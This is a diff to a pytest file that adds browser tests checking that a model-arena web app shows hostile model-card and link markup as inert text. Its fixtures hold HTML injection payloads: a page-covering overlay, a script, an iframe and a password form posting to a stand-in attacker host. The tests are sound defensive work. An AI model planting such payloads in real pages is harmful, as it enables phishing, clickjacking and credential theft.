@@ -27,6 +27,7 @@ import httpx
 import pytest
 
 from tests.app_fixtures import free_port
+from ui.safe_text import literal
 
 ROOT = Path(__file__).resolve().parent.parent
 GOOD = ROOT / "models" / "bible-lm" / "int8"
@@ -172,9 +173,9 @@ def test_the_app_starts_beside_bad_models_and_a_garbage_votes_file(tmp_path):
         listed = shown_text(url, "models-problems")
         reasons = {name: reason for name, (_, reason) in {**BAD_MANIFESTS, **BAD_GGUFS}.items()}
         for name, reason in reasons.items():
-            row = [line for line in listed.splitlines() if name in line]
-            assert len(row) == 1 and reason in row[0], (name, listed)
-        assert "votes.sqlite" in listed and "not a database" in listed, listed
+            row = [line for line in listed.splitlines() if literal(name) in line]
+            assert len(row) == 1 and literal(reason) in row[0], (name, listed)
+        assert literal("votes.sqlite") in listed and "not a database" in listed, listed
         notice = shown_text(url, "arena-notice")
         (aside,) = tmp_path.glob("votes.sqlite.corrupt-*")
         assert aside.read_bytes() == garbage  # kept, renamed
@@ -272,3 +273,109 @@ def test_the_vote_store_keeps_aside_what_is_no_votes_database(tmp_path):
     (tmp_path / "a-file").write_text("")
     with pytest.raises(ValueError, match="the vote was not kept"):
         votes.VoteStore(blocked).add(["a", "b"], None)
+
+
+# ---- links, cards and files shown as text (issue 44, item 3) ----------------------------------
+
+# A host nothing listens on: any request to it means the page fetched what a link or card named.
+ATTACKER = "http://127.0.0.1:9"
+HOSTILE_TAB = (
+    f'<img src={ATTACKER}/x.png style="position:fixed;width:100vw;height:100vh"> '
+    f"[Log in]({ATTACKER}/login)"
+)
+HOSTILE_CARD = f"""# evil-lm
+
+| property | value |
+|---|---|
+| licence | <img src={ATTACKER}/licence.png style="position:fixed;inset:0"> |
+
+<div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;
+background:red">covered</div>
+<script>window.pwned = 1</script>
+<iframe src="{ATTACKER}/frame"></iframe>
+<form action="{ATTACKER}/steal"><input name="password"></form>
+<style>body {{ display: none }}</style>
+
+![remote]({ATTACKER}/remote.png) [a fine link](https://example.org)
+
+```
+<b>code stays code</b>
+```
+"""
+
+
+@pytest.fixture
+def hostile_page(tmp_path):
+    """(URL of an app whose one model, evil-lm, is bible-lm int8 with HOSTILE_CARD as its
+    README, a Chromium page, the URLs that page requested); everything closed after the test."""
+    from playwright.sync_api import sync_playwright
+
+    import app
+    from tests.app_fixtures import serve
+    from tests.browser_fixtures import CHROMIUM, CHROMIUM_ARGS, TIMEOUT
+    from ui import votes
+    from ui.registry import ModelRegistry
+
+    if not CHROMIUM.exists():
+        pytest.skip("Debian chromium is not installed (apt-get install chromium)")
+    bundle = tmp_path / "evil-lm"
+    bundle.mkdir()
+    for file in GOOD.iterdir():
+        if file.name != "README.md":
+            (bundle / file.name).symlink_to(file)
+    (bundle / "README.md").write_text(HOSTILE_CARD)
+    demo = app.build(ModelRegistry({"evil-lm": bundle}), votes.VoteStore(tmp_path / "votes.sqlite"))
+    url = serve(demo)
+    requested: list[str] = []
+    try:
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+            page = browser.new_page(viewport={"width": 1280, "height": 800})
+            page.set_default_timeout(TIMEOUT * 1000)
+            page.on("request", lambda request: requested.append(request.url))
+            yield url, page, requested
+            browser.close()
+    finally:
+        demo.close()
+
+
+def test_a_link_that_names_markup_shows_it_as_text(hostile_page):
+    from urllib.parse import quote
+
+    from tests.browser_fixtures import wait_until
+
+    url, page, requested = hostile_page
+    page.goto(f"{url}?tab={quote(HOSTILE_TAB)}")
+    notice = page.locator("#link-notice")
+    wait_until(lambda: "Log in" in notice.inner_text(), "the link notice")
+    text = notice.inner_text()
+    assert "<img src=" in text and f"[Log in]({ATTACKER}/login)" in text, text
+    assert notice.locator("img").count() == 0 and notice.locator("a").count() == 0
+    assert page.locator("img[style*=fixed]").count() == 0
+    assert not [u for u in requested if u.startswith(ATTACKER)], requested
+
+
+def test_a_model_card_cannot_cover_the_page_or_fetch_anything(hostile_page):
+    from tests.browser_fixtures import wait_until
+
+    url, page, requested = hostile_page
+    page.goto(url)
+    page.get_by_role("tab", name="Models").click()
+    heading = page.get_by_role("heading", name="evil-lm")
+    heading.wait_for()
+    card = page.locator(".prose", has=heading).first
+    wait_until(lambda: "covered" in card.inner_text(), "the card's text")
+    fixed = """() => [...document.querySelectorAll('body *')].filter(
+        (e) => ['fixed', 'absolute'].includes(getComputedStyle(e).position)
+               && e.textContent.includes('covered')).length"""
+    assert page.evaluate(fixed) == 0, "the card's div is positioned over the page"
+    assert page.evaluate("() => window.pwned") is None, "the card's script ran"
+    for tag in ("script", "iframe", "form", "input", "style"):
+        assert card.locator(tag).count() == 0, tag
+    assert card.locator("table").count() == 1  # the Markdown stays: table, link, code
+    assert card.get_by_role("link", name="a fine link").count() == 1
+    assert "<b>code stays code</b>" in card.locator("pre").inner_text()
+    assert "image not shown: remote" in card.inner_text()
+    assert page.locator("body").is_visible()
+    time.sleep(1.0)  # a request the card caused would have left by now
+    assert not [u for u in requested if u.startswith(ATTACKER)], requested
